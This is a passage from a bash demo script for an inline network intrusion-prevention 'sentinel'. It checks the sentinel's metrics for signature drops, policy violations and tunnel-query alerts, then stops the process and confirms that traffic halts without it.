    grep -E '^sentinel_(packets_total|port_up|drops_total\{reason="(tx_full|signature|flow_blocked|bad_checksum|policy|spoofed_source)")' \
        <<<"$metrics" | indent
    grep -E '^sentinel_(rules_loaded|alerts_total|policy_flows_total|filter_matches_total)' <<<"$metrics" \
        | awk '$2 != 0' | indent
    forwarded=$(awk '/^sentinel_packets_total\{direction="to_core",verdict="forwarded"\}/ {print $2}' <<<"$metrics")
    if [[ -n $forwarded && $forwarded != 0 ]]; then
        pass "the metrics count the frames that crossed ($forwarded to_core)"
    else
        fail "the metrics show no forwarded frames"
    fi
    by_signature=$(awk '/^sentinel_drops_total\{reason="signature"\}/ {print $2}' <<<"$metrics")
    if [[ -n $by_signature && $by_signature != 0 ]]; then
        pass "the metrics count the attack's drop (reason signature: $by_signature)"
    else
        fail "the metrics show no drop for reason signature"
    fi
    by_policy=$(awk '/^sentinel_drops_total\{reason="policy"\}/ {print $2}' <<<"$metrics")
    violations=$(awk '/^sentinel_policy_flows_total\{decision="violation"\}/ {print $2}' <<<"$metrics")
    if [[ -n $by_policy && $by_policy != 0 && -n $violations && $violations != 0 ]]; then
        pass "the metrics count the call home: $violations policy violation(s), $by_policy frame(s) dropped (reason policy)"
    else
        fail "the metrics show no policy violation or drop (violations ${violations:-absent}, drops ${by_policy:-absent})"
    fi
    filter_alerts=$(awk '/^sentinel_filter_matches_total\{action="alert"\}/ {print $2}' <<<"$metrics")
    if [[ -n $filter_alerts ]] && (( filter_alerts >= ${#tunnel[@]} )); then
        pass "the metrics count the tunnel queries: $filter_alerts filter match(es) with action alert"
    else
        fail "the metrics show ${filter_alerts:-no} filter match(es) with action alert; expected ${#tunnel[@]} or more"
    fi
else
    fail "no /metrics at $METRICS_LISTEN"
fi

step "Stop the sentinel (SIGTERM)"
lines_before=$(wc -l <"$out")
cmd kill -TERM "$sentinel_pid"
kill -TERM "$sentinel_pid" 2>/dev/null || fail "the sentinel had already exited before SIGTERM"
rc=0
for _ in $(seq 1 100); do
    kill -0 "$sentinel_pid" 2>/dev/null || break
    sleep 0.1
done
if kill -0 "$sentinel_pid" 2>/dev/null; then
    fail "the sentinel did not exit within 10 s of SIGTERM; killing it"
    kill -KILL "$sentinel_pid" 2>/dev/null || true
fi
wait "$sentinel_pid" || rc=$?
sentinel_pid=''
if (( rc == 0 )); then pass "the sentinel exited with status 0"; else fail "the sentinel exited with status $rc"; fi

step "Ping again: with the sentinel gone, nothing crosses (it is inline, not beside the wire)"
if run_quoted ip netns exec "$VENDOR_NS" ping -c 2 -W 1 "$CORE_V4"; then
    fail "ping still works without the sentinel: something else bridges the two sides"
else
    pass "traffic stopped: as expected"
fi

step "The sentinel's final summary"
tail -n "+$((lines_before + 1))" "$out" | indent

if (( failures == 0 )); then
    printf '\n%sdemo: all checks passed%s\n' "$G" "$N"
else
    printf '\n%sdemo: %d check(s) failed%s\n' "$R" "$failures" "$N"
    exit 1
fi
